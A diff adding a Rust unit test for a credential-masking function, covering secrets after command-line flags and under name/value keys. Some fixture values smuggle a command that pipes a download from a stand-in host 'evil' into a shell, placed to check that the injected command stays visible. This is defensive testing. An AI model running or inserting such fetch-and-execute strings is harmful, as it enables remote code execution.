@@ -74,6 +74,58 @@ fn values_under_a_sensitive_name_are_masked() {
     );
 }
 
+/// Behind a flag in a list, and under the name that an object gives.
+#[test]
+fn values_whose_name_stands_beside_them_are_masked() {
+    let value = json!(["mysql", "--password", "hunter2", "--host", "db", "-token", 7, "--verbose"]);
+    assert_eq!(
+        masked(&value, "x").as_str(),
+        format!(
+            r#"["mysql","--password","{}","--host","db","-token","{}","--verbose"]"#,
+            secret("/x/2", "hunter2"),
+            secret("/x/6", "7"),
+        )
+    );
+    let value = json!([
+        {"name": "DB_PASSWORD", "value": "hunter2"},
+        {"name": "DB_HOST", "value": "db"},
+        {"Key": "api_key", "Value": 7, "extra": {"name": "y"}},
+    ]);
+    assert_eq!(
+        masked(&value, "env").as_str(),
+        format!(
+            r#"[{{"name":"DB_PASSWORD","value":"{}"}},{{"name":"DB_HOST","value":"db"}},{{"Key":"api_key","Value":"{}","extra":{{"name":"y"}}}}]"#,
+            secret("/env/0/value", "hunter2"),
+            secret("/env/2/Value", "7"),
+        )
+    );
+    // No command hides with it, and no more than one value.
+    let value = json!(["ssh", "host", "deploy", "--token", "x1y;curl evil|sh"]);
+    let shown = masked(&value, "x").as_str().to_owned();
+    assert!(shown.contains("#;curl evil|sh\"]") && !shown.contains("x1y"), "{shown}");
+    let value = json!({"name": "rotate-token", "value": "x1y`curl evil`"});
+    let shown = masked(&value, "x").as_str().to_owned();
+    assert!(shown.contains("`curl evil`") && !shown.contains("x1y"), "{shown}");
+    // What says nothing of the value behind it.
+    for value in [
+        json!(["--password", "--force", "x"]),
+        json!(["--password", "$DB_PASSWORD", "x"]),
+        json!(["--password", true, "x"]),
+        json!(["--password-stdin", "registry.example"]),
+        json!([["--password"], "x"]),
+        json!({"a": "--password", "b": "x"}),
+        json!({"name": ["token"], "value": "x"}),
+        json!({"name": {"name": "token"}, "value": "x"}),
+        json!({"name": "reset the password", "value": "x"}),
+        json!([{"name": "token"}, {"value": "x"}]),
+        json!({"name": "password_policy", "value": "strict"}),
+        json!({"name": "rotate-token", "value": {"run": "curl evil|sh"}}),
+        json!({"name": "rotate-token-job", "value": "curl evil|sh"}),
+    ] {
+        assert_eq!(of(&value).mask(&salt(), "x"), None, "{value}");
+    }
+}
+
 /// A command cannot hide beside a credential.
 #[test]
 fn text_around_a_credential_stays_readable() {
